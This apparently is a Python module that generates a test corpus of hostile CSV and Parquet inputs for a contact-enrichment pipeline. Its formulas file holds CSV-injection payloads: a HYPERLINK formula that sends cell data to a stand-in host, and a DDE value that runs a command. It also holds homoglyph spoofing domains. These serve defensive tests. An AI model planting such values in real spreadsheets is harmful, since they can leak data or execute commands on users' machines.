"""The hostile-input corpus of issue 10: small files that real exports and attackers produce.

`write_corpus(folder)` writes every file; the committed copy is `corpus/2026-11-15/`
(regenerate with `python -m enrich_pipeline_tests.ingest.hostile_corpus`; a test checks the two
agree byte for byte). The expected people and rejects of each file are written by hand in
test_hostile_input.py, not derived from here. Every person, company and domain is invented; the
domains use made-up names under real public suffixes so that registrable domains are found.

The 20 MB cell is not committed: `write_oversize_cell` writes it at test time.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

DAY = "2026-11-15"
CORPUS = Path(__file__).resolve().parent / "corpus"

# Excel's "Unicode text" export: UTF-16LE with a BOM, tab-separated, CRLF.
EXCEL_UNICODE = (
    "First Name\tLast Name\tEmail\tCompany\tJob Title\r\n"
    "Zoë\tMarrowfield\tzoe.marrowfield@quillbank.io\tQuillbank\tHead of Data\r\n"
    "Łucja\tBrennholt\tl.brennholt@quillbank.io\tQuillbank\tCFO\r\n"
    "Aiko\t田辺\taiko@tanpopo-works.jp\tTanpopo Works\tエンジニア\r\n"
)

# Exported on a Western European Windows without a BOM: Windows-1252.
WINDOWS_1252 = (
    "Prénom;Nom;E-mail;Société\r\n"
    "Élodie;Crèvecœur;elodie@verrerie-example.fr;Verrerie Crèvecœur\r\n"
    "Søren;Ågesen;soren@fjordkant.dk;Fjordkant ApS\r\n"
)

# Values that a spreadsheet runs as formulas (OWASP CSV injection).
FORMULAS = (
    "first_name,last_name,email,company_name,company_domain,linkedin_url,job_title,crm_id\n"
    '"=HYPERLINK(""http://evil.invalid/?x=""&A1,""Click"")",Marsh,'
    "ivo.marsh@quillfeather.io,Quillfeather,quillfeather.io,,CTO,Q-1\n"
    "Rhea,Tamsin,rhea.tamsin@quillfeather.io,\"+cmd|' /C calc'!A0\",quillfeather.io,,,Q-2\n"
    "Oskar,@SUM(1+1),,Quillfeather,quillfeather.io,,,Q-3\n"
    "Mina,Okonkwo,,,,https://www.linkedin.com/in/mina-okonkwo-x1,-2+3,Q-4\n"
    'Tobi,Reyes,tobi.reyes@quillfeather.io,,,"=HYPERLINK(""https://www.linkedin.com/in/x"")",,Q-5\n'
    'Lena,Frost,lena.frost@quillfeather.io,,,,COO,"\t=1+2"\n'
)

# Look-alike and internationalised domains (the Cyrillic letters are written as escapes).
LOOKALIKES = (
    "first_name,last_name,email,company_domain,linkedin_url\n"
    "Pavel,Drummond,,quill\u0430ank.io,\n"  # Latin + Cyrillic U+0430: mixed scripts
    "Nia,Holt,nia.holt@qu\u0456llbank.io,,https://www.linkedin.com/in/nia-holt-x2\n"
    "Greta,Lindqvist,,xn--bcherwald-q9a.de,\n"  # punycode of bücherwald.de
    "Greta,Lindqvist,,https://www.B\u00dcCHERWALD.de/team,\n"  # the same domain, U-label
    "Ada,Kestrel,,https://www.Zephyrloom.io/about,\n"  # plain ASCII: key as before
    "Ravi,Sen,ravi.sen@zephyrloom.io,\u0435\u0445\u0440\u043e.com,\n"  # all-Cyrillic "expo"
)

HEADER_ONLY = "first_name,last_name,email\n"


def write_corpus(folder: Path) -> list[Path]:
    """Every corpus file into `folder` (a day folder); returns their paths, sorted."""
    folder.mkdir(parents=True, exist_ok=True)
    texts = {
        "excel_unicode.csv": ("utf-16", EXCEL_UNICODE),  # Python writes the LE BOM first
        "windows_1252.csv": ("cp1252", WINDOWS_1252),
        "formulas.csv": ("utf-8", FORMULAS),
        "lookalikes.csv": ("utf-8", LOOKALIKES),
        "header_only.csv": ("utf-8", HEADER_ONLY),
        "utf32_bom.csv": ("utf-32", "email\nyara.voss@quillbank.io\n"),
    }
    for name, (encoding, text) in texts.items():
        data = text.encode(encoding)
        if encoding == "utf-16":
            assert data.startswith(b"\xff\xfe")  # little-endian, as Excel writes it
        (folder / name).write_bytes(data)
    table = pa.table(
        {
            "First name": pa.array([1.0, 1.5, None], pa.float64()),
            "Last name": pa.array(["Okoro", "Vance", "Quill"]),
            "Email": pa.array(["a.okoro@brindlewood.io", "t.vance@brindlewood.io", None]),
            "Lead ID": pa.array([101, 102, 103], pa.int64()),
            "Title": pa.array([7, None, 9], pa.int64()),
        }
    )
    pq.write_table(table, folder / "wrong_types.parquet")
    return sorted(folder.iterdir())


def write_oversize_cell(folder: Path, *, mb: int = 20) -> Path:
    """A CSV whose second row has a `mb` MB job title (a quoted cell with commas and a newline)."""
    folder.mkdir(parents=True, exist_ok=True)
    cell = ("x" * 1023 + ",") * (mb * 1024 - 1) + "y\nz" + "x" * 1021
    path = folder / "oversize.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("first_name,last_name,email,job_title,notes\n")
        handle.write("Ines,Calder,ines.calder@brindlewood.io,CEO,\n")
        handle.write(f'Omar,Pike,omar.pike@brindlewood.io,"{cell}",call back\n')
        handle.write("Uma,Reed,uma.reed@brindlewood.io,CFO,\n")
    return path


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS / DAY
    for written in write_corpus(out):
        print(written)
